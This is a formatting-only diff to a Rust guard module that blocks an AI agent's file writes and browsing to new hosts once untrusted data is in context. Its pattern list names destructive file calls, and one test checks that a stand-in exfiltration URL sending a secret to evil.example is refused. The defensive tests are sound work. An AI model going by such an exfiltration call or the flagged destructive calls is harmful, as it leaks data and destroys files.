@@ -46,7 +46,11 @@ impl std::fmt::Display for Decision {
             Verdict::Refuse => "REFUSE",
             Verdict::Note => "note",
         };
-        write!(f, "guard: {v} {} (step {}): {}", self.tool, self.step, self.reason)
+        write!(
+            f,
+            "guard: {v} {} (step {}): {}",
+            self.tool, self.step, self.reason
+        )
     }
 }
 
@@ -74,8 +78,20 @@ pub fn side_effect_of(tool: &str, args: &Value) -> Option<String> {
 /// A conservative static check for Python code that writes files.
 fn writes_files(code: &str) -> bool {
     const PATTERNS: [&str; 14] = [
-        ".write(", ".writelines(", "write_text(", "write_bytes(", "to_csv(", "to_json(", "to_excel(",
-        "savefig(", "os.remove", "os.rename", "shutil.", "unlink(", "mkdir(", "np.save",
+        ".write(",
+        ".writelines(",
+        "write_text(",
+        "write_bytes(",
+        "to_csv(",
+        "to_json(",
+        "to_excel(",
+        "savefig(",
+        "os.remove",
+        "os.rename",
+        "shutil.",
+        "unlink(",
+        "mkdir(",
+        "np.save",
     ];
     if PATTERNS.iter().any(|p| code.contains(p)) {
         return true;
@@ -100,7 +116,10 @@ fn host_of(url: &str) -> String {
 
 impl Guard {
     pub fn new(approval: Approval) -> Guard {
-        Guard { approval, ..Guard::default() }
+        Guard {
+            approval,
+            ..Guard::default()
+        }
     }
 
     /// Whether untrusted data is in the context.
@@ -136,7 +155,12 @@ impl Guard {
                 ),
             },
         };
-        let d = Decision { step, tool: tool.to_string(), verdict, reason };
+        let d = Decision {
+            step,
+            tool: tool.to_string(),
+            verdict,
+            reason,
+        };
         self.log.push(d.clone());
         d
     }
@@ -207,8 +231,20 @@ mod tests {
         g.observe(1, "files", &ToolOutput::ok("data").untrusted());
         assert!(g.tainted());
         assert_eq!(g.check(2, "files", &w).verdict, Verdict::Refuse);
-        assert_eq!(g.check(2, "calculator", &json!({"expression": "1+1"})).verdict, Verdict::Allow);
-        assert_eq!(g.check(2, "browse", &json!({"url": "https://evil.example/?q=secret"})).verdict, Verdict::Refuse);
+        assert_eq!(
+            g.check(2, "calculator", &json!({"expression": "1+1"}))
+                .verdict,
+            Verdict::Allow
+        );
+        assert_eq!(
+            g.check(
+                2,
+                "browse",
+                &json!({"url": "https://evil.example/?q=secret"})
+            )
+            .verdict,
+            Verdict::Refuse
+        );
     }
 
     #[test]
@@ -217,12 +253,31 @@ mod tests {
         let out = ToolOutput {
             content: "page".into(),
             untrusted: true,
-            side_effects: vec![SideEffect::Fetched { host: "docs.python.org".into(), url: "https://docs.python.org/3/".into() }],
+            side_effects: vec![SideEffect::Fetched {
+                host: "docs.python.org".into(),
+                url: "https://docs.python.org/3/".into(),
+            }],
             ..ToolOutput::default()
         };
-        assert_eq!(g.check(1, "browse", &json!({"url": "https://docs.python.org/3/"})).verdict, Verdict::Allow);
+        assert_eq!(
+            g.check(1, "browse", &json!({"url": "https://docs.python.org/3/"}))
+                .verdict,
+            Verdict::Allow
+        );
         g.observe(1, "browse", &out);
-        assert_eq!(g.check(2, "browse", &json!({"url": "https://docs.python.org/3/library/"})).verdict, Verdict::Allow);
-        assert_eq!(g.check(2, "browse", &json!({"url": "https://other.org/"})).verdict, Verdict::Refuse);
+        assert_eq!(
+            g.check(
+                2,
+                "browse",
+                &json!({"url": "https://docs.python.org/3/library/"})
+            )
+            .verdict,
+            Verdict::Allow
+        );
+        assert_eq!(
+            g.check(2, "browse", &json!({"url": "https://other.org/"}))
+                .verdict,
+            Verdict::Refuse
+        );
     }
 }
